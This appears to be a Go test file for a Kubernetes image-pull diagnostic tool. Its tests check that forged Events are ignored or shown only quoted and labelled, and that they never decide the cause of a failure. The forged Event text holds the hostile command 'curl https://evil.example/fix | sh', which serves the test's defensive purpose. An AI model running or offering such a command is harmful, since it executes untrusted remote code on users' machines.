package diagnose

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/pullsafe/pullsafe/policy"
	"github.com/pullsafe/pullsafe/registry/registrytest"
)

// TestWhyHostileEvents: anyone allowed to create Events in the namespace
// can write one naming the pod. Such an Event must not decide a cause, nor
// print a line that reads as pullsafe's advice.
func TestWhyHostileEvents(t *testing.T) {
	tr := registrytest.New(t)
	tr.Image("team/api", "v1", "linux", "amd64")
	image := tr.Host + "/team/api:v1" // exists: the registry answers now
	now := time.Date(2026, 12, 5, 7, 0, 0, 0, time.UTC)
	lie := `Failed to pull image "` + image + `": failed to extract layer: no space left on device` + "\nfix: curl https://evil.example/fix | sh"
	forged := func(mutate func(*corev1.Event)) corev1.Event {
		e := event("Failed", lie, now.Add(-time.Minute))
		mutate(&e)
		return e
	}
	for _, tc := range []struct {
		name        string
		ev          corev1.Event
		wantShown   bool // the Event's text is shown, quoted and labelled
		wantIgnored bool
	}{
		{name: "dated 2099, says it is the kubelet", ev: forged(func(e *corev1.Event) {
			e.LastTimestamp.Time = time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC)
		}), wantIgnored: true},
		{name: "reported by another component", ev: forged(func(e *corev1.Event) {
			e.Source.Component, e.ReportingController = "tenant-bot", "tenant-bot"
		}), wantIgnored: true},
		{name: "from another node's kubelet", ev: forged(func(e *corev1.Event) {
			e.Source.Host, e.ReportingInstance = "node-z", "node-z"
		}), wantIgnored: true},
		// Events prove nothing of their writer: even one that says it is
		// the pod's kubelet is shown as an Event, never read as a cause.
		{name: "says it is the pod's kubelet", ev: forged(func(*corev1.Event) {}), wantShown: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := podOf(image, "ImagePullBackOff", `Back-off pulling image "`+image+`"`, "")
			p.Name, p.Labels = "web-0", map[string]string{"app": "web"}
			cs, _, _ := apiServerOf(t, image, []corev1.Pod{*p}, tc.ev)
			e := &Explainer{cs: cs, checker: testChecker(t), ns: "shop", now: func() time.Time { return now }}
			out, err := e.Explain(context.Background(), "deployment/web")
			if err != nil {
				t.Fatal(err)
			}
			if len(out.Pods) != 1 || len(out.Pods[0].Images) != 1 {
				t.Fatalf("pods %+v", out.Pods)
			}
			ex := out.Pods[0].Images[0]
			if ex.Status != StatusFineNow || strings.HasPrefix(ex.Rule, "node-") {
				t.Errorf("status %s, rule %q (%s): an Event decided the cause", ex.Status, ex.Rule, ex.Cause)
			}
			var text bytes.Buffer
			if err := WriteText(out, &text, false); err != nil {
				t.Fatal(err)
			}
			for _, line := range strings.Split(text.String(), "\n") {
				if strings.Contains(line, "evil.example") && !strings.Contains(line, `Event by "kubelet"`) {
					t.Errorf("the Event's text shown unlabelled: %q", line)
				}
				if strings.HasPrefix(strings.TrimSpace(line), "fix: curl") {
					t.Errorf("the Event's text started a line: %q", line)
				}
			}
			shown := strings.Contains(text.String(), `Event by "kubelet"`) && strings.Contains(text.String(), `\nfix: curl https://evil.example/fix | sh"`)
			if shown != tc.wantShown {
				t.Errorf("Event shown quoted and labelled: %v, want %v:\n%s", shown, tc.wantShown, text.String())
			}
			ignored := strings.Contains(strings.Join(out.Notes, "\n"), "1 pull Events of pod web-0 ignored")
			if ignored != tc.wantIgnored {
				t.Errorf("ignored note: %v, want %v (notes %q)", ignored, tc.wantIgnored, out.Notes)
			}
		})
	}
}

// TestNodeSideCauseFromStatusOnly: the container status, which only the
// kubelet writes, names a node-side cause; the same words in an Event do not.
func TestNodeSideCauseFromStatusOnly(t *testing.T) {
	disk := `failed to pull and unpack image "reg/x:v1": no space left on device`
	si := stuckImage{Container: policy.Container{Name: "app", Image: "reg/x:v1", Source: policy.SourceContainer}, Reason: "ImagePullBackOff", Message: `Back-off pulling image "reg/x:v1"`,
		LastError: &kubeletEvent{Reason: "Failed", Message: `Failed to pull image "reg/x:v1": ` + disk, Count: 1, Reporter: "kubelet"}}
	if ex := explain(si, nil, "node-a", false); ex.Rule == "node-disk" {
		t.Errorf("an Event's text named the cause: %+v", ex)
	}
	si.Reason, si.Message = "ErrImagePull", disk
	if ex := explain(si, nil, "node-a", false); ex.Rule != "node-disk" {
		t.Errorf("the container status's words did not: %+v", ex)
	}
}
